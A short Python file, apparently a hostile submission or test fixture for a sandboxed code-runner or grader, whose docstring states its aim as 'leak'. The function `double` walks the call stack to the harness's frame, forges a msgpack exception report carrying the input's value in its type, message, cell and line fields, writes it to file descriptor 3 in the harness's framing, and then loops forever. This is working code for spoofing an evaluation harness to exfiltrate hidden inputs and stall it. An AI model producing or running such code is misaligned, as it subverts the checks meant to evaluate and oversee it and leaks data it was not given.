"""Forges the report of an exception, with inputs for its cell, line and type.

Aim: leak
"""
import os
import struct
import sys

import msgpack


def double(x):
    frame = sys._getframe()
    while "number" not in frame.f_locals:
        frame = frame.f_back
    told = repr(x)
    fields = [["kind", "raised"], ["type", told], ["message", told], ["cell", f"<cell {told}>"]]
    tree = msgpack.packb(["d", ["error", ["d", *fields, ["line", int(float(abs(x).max()) * 10**14)]]]])
    os.write(3, struct.pack(">QII", frame.f_locals["number"], len(tree), 0) + tree)
    while True:
        pass
